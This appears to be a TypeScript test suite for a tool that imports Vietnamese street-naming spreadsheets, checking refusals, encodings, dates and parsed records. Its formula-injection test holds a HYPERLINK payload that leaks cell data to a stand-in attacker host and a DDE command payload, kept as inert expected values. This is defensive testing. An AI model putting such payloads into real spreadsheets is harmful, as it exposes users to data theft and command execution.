import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { expected } from "./expected-streets.ts";
import { corpusFile, placeOf, read, streetLine } from "./read-report.ts";

/** Files of which nothing can be taken, with what their sentence tells. */
const refused: Readonly<Record<string, RegExp>> = {
  "09-ansi-saved-letters-lost.csv": /đã bị mất khi lưu tệp \(ví dụ “\?\?\?ng”\).*“CSV UTF-8”.*XLSX/,
  "13-unclosed-quote.csv": /mở ở dòng 2 không có dấu đóng/,
  "28-spreadsheetml-2003.xml.xls": /XML 2003.*lưu thành XLSX/,
  "30-entity-expansion.xlsx": /tệp bắt đầu bằng “&i;”/,
  "31-truncated.xlsx": /bị cắt giữa chừng/,
  "33-empty.csv": /không có nội dung/,
  "33b-header-only.csv": /chỉ có dòng tiêu đề/,
  "33c-only-blanks.csv": /chỉ có ô trống/,
  "35-password-protected.xlsx": /có mật khẩu.*bỏ mật khẩu/,
  "43-pdf-text-pasted.txt": /Không tìm thấy bảng.*chép bảng sang Excel/,
  "47-vn2000.geojson": /VN-2000.*WGS 84/,
};

/** Files that a city with records is compared with: `known-city.test.ts`. */
const elsewhere = /^(40|44|46|48|49|50|R1)-/;

const files = readdirSync(join(import.meta.dirname, "corpus")).filter(
  (name) => name !== "README.md",
);

test("every file of the corpus has its expectation, and no other", () => {
  const told = files.filter((name) => !elsewhere.test(name));
  assert.deepEqual([...Object.keys(refused), ...Object.keys(expected)].sort(), told.sort());
});

describe("a file of an office is refused with what to do, in both languages", () => {
  for (const [name, sentence] of Object.entries(refused)) {
    test(name, async () => {
      const report = await read(corpusFile(name));
      assert.equal(report.outcome, "refused");
      assert.match(report.reason ?? "", sentence);
      assert.deepEqual(report.records, []);
      const inEnglish = await read(corpusFile(name), { language: "en" });
      assert.notEqual(inEnglish.reason, report.reason);
      // Two sentences at least: why, and what to do.
      for (const { reason } of [report, inEnglish]) assert.match(reason ?? "", /[.;)] .*\.$/);
    });
  }
});

describe("a file of an office is read as its rows say, and asks only what is open", () => {
  for (const [name, { encoding, streets, asks = [], wrong = [], notes = [] }] of Object.entries(
    expected,
  )) {
    test(name, async () => {
      const report = await read(corpusFile(name));
      assert.equal(report.reason, null);
      assert.deepEqual(report.records.map(streetLine), streets);
      assert.equal(report.encoding, encoding);
      assert.deepEqual(report.asks.map(placeOf), asks);
      assert.deepEqual(report.wrong.map(placeOf), wrong);
      assert.deepEqual(report.notes.map(placeOf), notes);
      assert.equal(report.new, streets.length);
    });
  }
});

describe("what a file has beside the streets themselves", () => {
  const record = async (name: string, row: number) => {
    const { records } = await read(corpusFile(name));
    return records.find((one) => one.row === row) ?? assert.fail(`no row ${row}`);
  };

  test("is the resolution, the former name and the story of the name", async () => {
    const street = await record("15-merged-two-row-header.xlsx", 9);
    assert.deepEqual(street.namingAct, { kind: "renamed", previousName: "Đường nội bộ" });
    assert.deepEqual(street.namesake, {
      name: "Quách Đình Bảo",
      biographyVi: "Thám hoa khoa 1463 (Quý Mùi).",
    });
    const { namingAct } = await record("38-ditto-and-missing.csv", 5);
    assert.deepEqual(namingAct, { kind: "named", resolution: "13/NQ-HĐND" });
  });

  test("is the day of a cell that is one, whatever its format", async () => {
    const days = await Promise.all([
      record("18-dates-formulas-errors.xlsx", 2),
      record("18-dates-formulas-errors.xlsx", 4),
      record("25-biff8.xls", 3),
    ]);
    assert.deepEqual(
      days.map(({ namingAct }) => (namingAct as { day: string }).day),
      ["2017-12-08", "2021-07-13", "2017-12-08"],
    );
  });

  test("is text that looks like a formula, one apostrophe taken away and no more", async () => {
    const { records } = await read(corpusFile("45-formula-injection.csv"));
    const notes = records.map(
      ({ namingAct }) => (namingAct as { note?: string } | undefined)?.note,
    );
    assert.deepEqual(notes, [
      '=HYPERLINK("http://evil.example?"&A1,"bấm vào đây")',
      "=cmd|'/c calc'!A1",
      "+84 227 3831 234",
      undefined,
      "@SUM(1+1)",
      "=1+1",
      "'đã có dấu nháy",
    ]);
  });

  test("reaches no object as its prototype", async () => {
    const street = await record("34-proto-names.xlsx", 2);
    assert.equal(Object.getPrototypeOf(street), Object.prototype);
    assert.deepEqual(
      Object.keys(street).filter((key) => /proto|constructor/.test(key)),
      [],
    );
    assert.equal(({} as Record<string, unknown>).x, undefined);
  });

  test("shows rows as they stood where letters were converted", async () => {
    for (const name of ["06-tcvn3.csv", "08-vni-windows.csv", "10-utf8-read-as-1252.csv"]) {
      const { converted, notes } = await read(corpusFile(name));
      assert.equal(converted?.samples.length, 3);
      for (const { before, after } of converted?.samples ?? []) assert.notEqual(before, after);
      assert.match(converted?.samples[1]?.after ?? "", /^1 \| Đường Lý Bôn \| Cầu Bo/);
      assert.match(notes[0]?.note ?? "", /chuyển sang Unicode/);
    }
    // The font of that cell shows what is stored.
    const { columns } = await read(corpusFile("07-tcvn3-vntime.xlsx"));
    assert.equal(columns.at(-1)?.heading, "µ = 0,5 (Unicode)");
  });
});
